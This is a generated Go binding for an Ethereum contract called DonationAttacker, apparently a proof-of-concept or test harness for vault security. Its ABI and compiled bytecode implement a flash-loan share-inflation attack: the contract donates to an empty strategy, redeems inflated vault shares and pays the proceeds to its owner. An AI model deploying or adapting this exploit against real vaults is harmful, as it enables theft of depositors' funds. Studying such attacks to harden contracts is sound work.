// Code generated via abigen V2 - DO NOT EDIT.
// This file is a generated binding and any manual changes will be lost.

package contracts

import (
	"bytes"
	"errors"
	"math/big"

	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// Reference imports to suppress errors if they are not otherwise used.
var (
	_ = bytes.Equal
	_ = errors.New
	_ = big.NewInt
	_ = common.Big1
	_ = types.BloomLookup
	_ = abi.ConvertType
)

// DonationAttackerMetaData contains all meta data concerning the DonationAttacker contract.
var DonationAttackerMetaData = bind.MetaData{
	ABI: "[{\"inputs\":[{\"internalType\":\"address\",\"name\":\"vault_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"strategy_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"lender_\",\"type\":\"address\"}],\"stateMutability\":\"nonpayable\",\"type\":\"constructor\"},{\"anonymous\":false,\"inputs\":[{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"donation\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"vaultShares\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"redeemed\",\"type\":\"uint256\"}],\"name\":\"Inflated\",\"type\":\"event\"},{\"anonymous\":false,\"inputs\":[{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"loan\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"payout\",\"type\":\"uint256\"}],\"name\":\"Looted\",\"type\":\"event\"},{\"inputs\":[{\"internalType\":\"uint256\",\"name\":\"donation\",\"type\":\"uint256\"}],\"name\":\"attack\",\"outputs\":[],\"stateMutability\":\"payable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"lender\",\"outputs\":[{\"internalType\":\"contractFlashLender\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"initiator\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"},{\"internalType\":\"uint256\",\"name\":\"amount\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"fee\",\"type\":\"uint256\"},{\"internalType\":\"bytes\",\"name\":\"\",\"type\":\"bytes\"}],\"name\":\"onFlashLoan\",\"outputs\":[{\"internalType\":\"bytes32\",\"name\":\"\",\"type\":\"bytes32\"}],\"stateMutability\":\"payable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"owner\",\"outputs\":[{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"strategy\",\"outputs\":[{\"internalType\":\"contractStrategyShares\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"vault\",\"outputs\":[{\"internalType\":\"contractIShareVault\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"stateMutability\":\"payable\",\"type\":\"receive\"}]",
	ID:  "DonationAttacker",
	Bin: "0x610100604052348015610010575f5ffd5b50604051610bd8380380610bd883398101604081905261002f9161006b565b336080526001600160a01b0392831660a05290821660c0521660e0526100ab565b80516001600160a01b0381168114610066575f5ffd5b919050565b5f5f5f6060848603121561007d575f5ffd5b61008684610050565b925061009460208501610050565b91506100a260408501610050565b90509250925092565b60805160a05160c05160e051610aaf6101295f395f818161012c0152818161018d015281816105cb0152818161070a015261073a01525f818160f901528181610206015281816102db0152818161035501526104a701525f818161015f015261040601525f818160ae015281816106af015261084c0152610aaf5ff3fe608060405260043610610057575f3560e01c806323e30c8b1461006257806364dd891a146100885780638da5cb5b1461009d578063a8c62e76146100e8578063bcead63e1461011b578063fbfa77cf1461014e575f5ffd5b3661005e57005b5f5ffd5b610075610070366004610940565b610181565b6040519081526020015b60405180910390f35b61009b6100963660046109e5565b6106a4565b005b3480156100a8575f5ffd5b506100d07f000000000000000000000000000000000000000000000000000000000000000081565b6040516001600160a01b03909116815260200161007f565b3480156100f3575f5ffd5b506100d07f000000000000000000000000000000000000000000000000000000000000000081565b348015610126575f5ffd5b506100d07f000000000000000000000000000000000000000000000000000000000000000081565b348015610159575f5ffd5b506100d07f000000000000000000000000000000000000000000000000000000000000000081565b5f336001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000161480156101c257506001600160a01b03871630145b6102045760405162461bcd60e51b815260206004820152600e60248201526d3ab73a393ab9ba32b2103637b0b760911b60448201526064015b60405180910390fd5b7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03166318160ddd6040518163ffffffff1660e01b8152600401602060405180830381865afa158015610260573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061028491906109fc565b156102c65760405162461bcd60e51b81526020600482015260126024820152717374726174656779206e6f7420656d70747960701b60448201526064016101fb565b60405163f340fa0160e01b81523060048201527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03169063f340fa019060019060240160206040518083038185885af115801561032c573d5f5f3e3d5ffd5b50505050506040513d601f19601f8201168201806040525081019061035191906109fc565b505f7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316866040515f6040518083038185875af1925050503d805f81146103bb576040519150601f19603f3d011682016040523d82523d5f602084013e6103c0565b606091505b50509050806104035760405162461bcd60e51b815260206004820152600f60248201526e191bdb985d1a5bdb8819985a5b1959608a1b60448201526064016101fb565b5f7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031663e8b5e51f6040518163ffffffff1660e01b81526004016020604051808303815f875af1158015610461573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061048591906109fc565b6040516370a0823160e01b81523060048201529091505f906001600160a01b037f00000000000000000000000000000000000000000000000000000000000000001690637bde82f29082906370a0823190602401602060405180830381865afa1580156104f4573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061051891906109fc565b6040516001600160e01b031960e084901b16815260048101919091523060248201526044016020604051808303815f875af1158015610559573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061057d91906109fc565b604080518a8152602081018590529081018290529091507fcbea896347b340f89dc48ed7e69d80e97e42dcafc702cbc23fc71b4dc25521eb9060600160405180910390a16001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000166105f5888a610a13565b6040515f81818185875af1925050503d805f811461062e576040519150601f19603f3d011682016040523d82523d5f602084013e610633565b606091505b505080935050826106755760405162461bcd60e51b815260206004820152600c60248201526b1c995c185e4819985a5b195960a21b60448201526064016101fb565b507f439148f0bbc682ca079e46d6e2c2f0c1e3b820f1a291b069d8882abf8cf18dd99998505050505050505050565b336001600160a01b037f000000000000000000000000000000000000000000000000000000000000000016146107085760405162461bcd60e51b81526020600482015260096024820152683737ba1037bbb732b960b91b60448201526064016101fb565b7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316635cffe9de307f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316638322fff26040518163ffffffff1660e01b8152600401602060405180830381865afa158015610794573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906107b89190610a38565b6040516001600160e01b031960e085901b1681526001600160a01b0392831660048201529116602482015260448101849052608060648201525f608482015260a4016020604051808303815f875af1158015610816573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061083a9190610a5a565b5060405147905f906001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000169083908381818185875af1925050503d805f81146108a5576040519150601f19603f3d011682016040523d82523d5f602084013e6108aa565b606091505b50509050806108eb5760405162461bcd60e51b815260206004820152600d60248201526c1c185e5bdd5d0819985a5b1959609a1b60448201526064016101fb565b60408051848152602081018490527fdfcd75da972ad40bcfe500564e0cd67c912066c07fa1c95c09120eda86025ee3910160405180910390a1505050565b6001600160a01b038116811461093d575f5ffd5b50565b5f5f5f5f5f5f60a08789031215610955575f5ffd5b863561096081610929565b9550602087013561097081610929565b94506040870135935060608701359250608087013567ffffffffffffffff811115610999575f5ffd5b8701601f810189136109a9575f5ffd5b803567ffffffffffffffff8111156109bf575f5ffd5b8960208284010111156109d0575f5ffd5b60208201935080925050509295509295509295565b5f602082840312156109f5575f5ffd5b5035919050565b5f60208284031215610a0c575f5ffd5b5051919050565b80820180821115610a3257634e487b7160e01b5f52601160045260245ffd5b92915050565b5f60208284031215610a48575f5ffd5b8151610a5381610929565b9392505050565b5f60208284031215610a6a575f5ffd5b81518015158114610a53575f5ffdfea26469706673582212201c2325a814c796f132990f3a237e66c728247949763fd6c93ed5dce4a90fcd7664736f6c634300081e0033",
}

// DonationAttacker is an auto generated Go binding around an Ethereum contract.
type DonationAttacker struct {
	abi abi.ABI
}

// GetABI returns the ABI associated with this contract binding.
func (c *DonationAttacker) GetABI() abi.ABI {
	return c.abi
}

// NewDonationAttacker creates a new instance of DonationAttacker.
func NewDonationAttacker() *DonationAttacker {
	parsed, err := DonationAttackerMetaData.ParseABI()
	if err != nil {
		panic(errors.New("invalid ABI: " + err.Error()))
	}
	return &DonationAttacker{abi: *parsed}
}

// Instance creates a wrapper for a deployed contract instance at the given address.
// Use this to create the instance object passed to abigen v2 library functions Call, Transact, etc.
func (c *DonationAttacker) Instance(backend bind.ContractBackend, addr common.Address) *bind.BoundContract {
	return bind.NewBoundContract(addr, c.abi, backend, backend, backend)
}

// PackConstructor is the Go binding used to pack the parameters required for
// contract deployment.
//
// Solidity: constructor(address vault_, address strategy_, address lender_) returns()
func (donationAttacker *DonationAttacker) PackConstructor(vault_ common.Address, strategy_ common.Address, lender_ common.Address) []byte {
	enc, err := donationAttacker.abi.Pack("", vault_, strategy_, lender_)
	if err != nil {
		panic(err)
	}
	return enc
}

// PackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x64dd891a.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function attack(uint256 donation) payable returns()
func (donationAttacker *DonationAttacker) PackAttack(donation *big.Int) []byte {
	enc, err := donationAttacker.abi.Pack("attack", donation)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x64dd891a.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function attack(uint256 donation) payable returns()
func (donationAttacker *DonationAttacker) TryPackAttack(donation *big.Int) ([]byte, error) {
	return donationAttacker.abi.Pack("attack", donation)
}

// PackLender is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xbcead63e.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function lender() view returns(address)
func (donationAttacker *DonationAttacker) PackLender() []byte {
	enc, err := donationAttacker.abi.Pack("lender")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackLender is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xbcead63e.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function lender() view returns(address)
func (donationAttacker *DonationAttacker) TryPackLender() ([]byte, error) {
	return donationAttacker.abi.Pack("lender")
}

// UnpackLender is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xbcead63e.
//
// Solidity: function lender() view returns(address)
func (donationAttacker *DonationAttacker) UnpackLender(data []byte) (common.Address, error) {
	out, err := donationAttacker.abi.Unpack("lender", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackOnFlashLoan is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x23e30c8b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes ) payable returns(bytes32)
func (donationAttacker *DonationAttacker) PackOnFlashLoan(initiator common.Address, arg1 common.Address, amount *big.Int, fee *big.Int, arg4 []byte) []byte {
	enc, err := donationAttacker.abi.Pack("onFlashLoan", initiator, arg1, amount, fee, arg4)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOnFlashLoan is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x23e30c8b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes ) payable returns(bytes32)
func (donationAttacker *DonationAttacker) TryPackOnFlashLoan(initiator common.Address, arg1 common.Address, amount *big.Int, fee *big.Int, arg4 []byte) ([]byte, error) {
	return donationAttacker.abi.Pack("onFlashLoan", initiator, arg1, amount, fee, arg4)
}

// UnpackOnFlashLoan is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x23e30c8b.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes ) payable returns(bytes32)
func (donationAttacker *DonationAttacker) UnpackOnFlashLoan(data []byte) ([32]byte, error) {
	out, err := donationAttacker.abi.Unpack("onFlashLoan", data)
	if err != nil {
		return *new([32]byte), err
	}
	out0 := *abi.ConvertType(out[0], new([32]byte)).(*[32]byte)
	return out0, nil
}

// PackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function owner() view returns(address)
func (donationAttacker *DonationAttacker) PackOwner() []byte {
	enc, err := donationAttacker.abi.Pack("owner")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function owner() view returns(address)
func (donationAttacker *DonationAttacker) TryPackOwner() ([]byte, error) {
	return donationAttacker.abi.Pack("owner")
}

// UnpackOwner is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x8da5cb5b.
//
// Solidity: function owner() view returns(address)
func (donationAttacker *DonationAttacker) UnpackOwner(data []byte) (common.Address, error) {
	out, err := donationAttacker.abi.Unpack("owner", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackStrategy is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xa8c62e76.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function strategy() view returns(address)
func (donationAttacker *DonationAttacker) PackStrategy() []byte {
	enc, err := donationAttacker.abi.Pack("strategy")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackStrategy is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xa8c62e76.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function strategy() view returns(address)
func (donationAttacker *DonationAttacker) TryPackStrategy() ([]byte, error) {
	return donationAttacker.abi.Pack("strategy")
}

// UnpackStrategy is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xa8c62e76.
//
// Solidity: function strategy() view returns(address)
func (donationAttacker *DonationAttacker) UnpackStrategy(data []byte) (common.Address, error) {
	out, err := donationAttacker.abi.Unpack("strategy", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackVault is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xfbfa77cf.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function vault() view returns(address)
func (donationAttacker *DonationAttacker) PackVault() []byte {
	enc, err := donationAttacker.abi.Pack("vault")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackVault is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xfbfa77cf.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function vault() view returns(address)
func (donationAttacker *DonationAttacker) TryPackVault() ([]byte, error) {
	return donationAttacker.abi.Pack("vault")
}

// UnpackVault is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xfbfa77cf.
//
// Solidity: function vault() view returns(address)
func (donationAttacker *DonationAttacker) UnpackVault(data []byte) (common.Address, error) {
	out, err := donationAttacker.abi.Unpack("vault", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// DonationAttackerInflated represents a Inflated event raised by the DonationAttacker contract.
type DonationAttackerInflated struct {
	Donation    *big.Int
	VaultShares *big.Int
	Redeemed    *big.Int
	Raw         *types.Log // Blockchain specific contextual infos
}

const DonationAttackerInflatedEventName = "Inflated"

// ContractEventName returns the user-defined event name.
func (DonationAttackerInflated) ContractEventName() string {
	return DonationAttackerInflatedEventName
}

// UnpackInflatedEvent is the Go binding that unpacks the event data emitted
// by contract.
//
// Solidity: event Inflated(uint256 donation, uint256 vaultShares, uint256 redeemed)
func (donationAttacker *DonationAttacker) UnpackInflatedEvent(log *types.Log) (*DonationAttackerInflated, error) {
	event := "Inflated"
	if len(log.Topics) == 0 {
		return nil, bind.ErrNoEventSignature
	}
	if log.Topics[0] != donationAttacker.abi.Events[event].ID {
		return nil, bind.ErrEventSignatureMismatch
	}
	out := new(DonationAttackerInflated)
	if len(log.Data) > 0 {
		if err := donationAttacker.abi.UnpackIntoInterface(out, event, log.Data); err != nil {
			return nil, err
		}
	}
	var indexed abi.Arguments
	for _, arg := range donationAttacker.abi.Events[event].Inputs {
		if arg.Indexed {
			indexed = append(indexed, arg)
		}
	}
	if err := abi.ParseTopics(out, indexed, log.Topics[1:]); err != nil {
		return nil, err
	}
	out.Raw = log
	return out, nil
}

// DonationAttackerLooted represents a Looted event raised by the DonationAttacker contract.
type DonationAttackerLooted struct {
	Loan   *big.Int
	Payout *big.Int
	Raw    *types.Log // Blockchain specific contextual infos
}

const DonationAttackerLootedEventName = "Looted"

// ContractEventName returns the user-defined event name.
func (DonationAttackerLooted) ContractEventName() string {
	return DonationAttackerLootedEventName
}

// UnpackLootedEvent is the Go binding that unpacks the event data emitted
// by contract.
//
// Solidity: event Looted(uint256 loan, uint256 payout)
func (donationAttacker *DonationAttacker) UnpackLootedEvent(log *types.Log) (*DonationAttackerLooted, error) {
	event := "Looted"
	if len(log.Topics) == 0 {
		return nil, bind.ErrNoEventSignature
	}
	if log.Topics[0] != donationAttacker.abi.Events[event].ID {
		return nil, bind.ErrEventSignatureMismatch
	}
	out := new(DonationAttackerLooted)
	if len(log.Data) > 0 {
		if err := donationAttacker.abi.UnpackIntoInterface(out, event, log.Data); err != nil {
			return nil, err
		}
	}
	var indexed abi.Arguments
	for _, arg := range donationAttacker.abi.Events[event].Inputs {
		if arg.Indexed {
			indexed = append(indexed, arg)
		}
	}
	if err := abi.ParseTopics(out, indexed, log.Topics[1:]); err != nil {
		return nil, err
	}
	out.Raw = log
	return out, nil
}
